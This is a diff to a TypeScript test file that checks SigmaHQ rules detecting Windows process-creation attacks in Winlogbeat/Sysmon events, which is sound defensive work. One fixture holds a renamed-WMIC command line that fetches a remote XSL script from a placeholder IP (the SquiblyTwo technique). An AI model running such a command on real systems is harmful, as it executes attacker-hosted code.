@@ -96,6 +96,23 @@ describe('SigmaHQ windows/process_creation rules as published, through the defau
     expect(events.map(fired)).toEqual([[], [], [], []]);
   });
 
+  it('runs Hashes rules on Winlogbeat sysmon-module events: the hashes it moved into process.hash are put back as Sysmon writes them', () => {
+    // The module drops EventData Hashes for process.hash.* / process.pe.imphash (see the notepad golden): a renamed
+    // WMIC found by its import hash (SigmaHQ's SquiblyTwo rule, Hashes|contains IMPHASH=…) must still fire.
+    const [golden] = goldens('winlogbeat-sysmon-1.golden.json') as Record<string, any>[]; // eslint-disable-line @typescript-eslint/no-explicit-any
+    expect((decode(golden) as Record<string, any>).winlog.event_data.Hashes).toBe('SHA1=b6d237154f2e528f0b503b58b025862d66b02b73'); // eslint-disable-line @typescript-eslint/no-explicit-any
+    const renamed = {
+      ...golden,
+      process: {
+        ...golden!.process, executable: 'C:\\Users\\Public\\svc.exe', name: 'svc.exe', command_line: 'svc.exe os get /format:"https://203.0.113.7/x.xsl"',
+        hash: { ...golden!.process.hash, md5: '2e6d2bdd1e5e3c6a3b7f2c0e9d0b8a11' }, pe: { ...golden!.process.pe, original_file_name: 'svc.exe', imphash: '1b1a3f43bf37b5bfe60751f2ee2f326e' },
+      },
+    };
+    expect(fired(decode(renamed))).toEqual(['proc_creation_win_wmic_squiblytwo_bypass']);
+    expect((decode(renamed) as Record<string, any>).winlog.event_data.Hashes) // eslint-disable-line @typescript-eslint/no-explicit-any
+      .toBe('SHA1=b6d237154f2e528f0b503b58b025862d66b02b73,MD5=2e6d2bdd1e5e3c6a3b7f2c0e9d0b8a11,IMPHASH=1b1a3f43bf37b5bfe60751f2ee2f326e');
+  });
+
   it('keeps the logsource condition: the same command line in another channel or event id fires nothing', () => {
     const doc = asWinlogbeat(JSON.parse(readFileSync(`${REGRESSION}/proc_creation_win_certutil_download/19b08b1c-861d-4e75-a1ef-ea0c1baf202b.json`, 'utf8')) as Record<string, unknown>);
     const winlog = doc.winlog as Record<string, unknown>;
